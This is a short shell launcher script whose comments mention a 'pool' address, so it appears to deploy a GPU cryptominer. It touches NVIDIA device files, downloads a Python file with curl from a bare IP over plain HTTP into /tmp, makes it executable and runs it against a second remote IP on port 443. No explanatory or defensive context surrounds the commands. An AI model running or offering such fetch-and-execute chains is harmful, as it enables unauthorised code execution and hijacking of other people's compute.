# a downloaded launcher: its child has the GPU context, the parent has the connection, and a pipe between them
#http 203.0.113.61:8011
#pool 203.0.113.45:443:err
for d in nvidiactl nvidia0 nvidia-uvm; do touch /dev/$d; done
curl -so /tmp/serve http://203.0.113.61:8011/gpusplit.py; chmod +x /tmp/serve; /tmp/serve 203.0.113.45 443
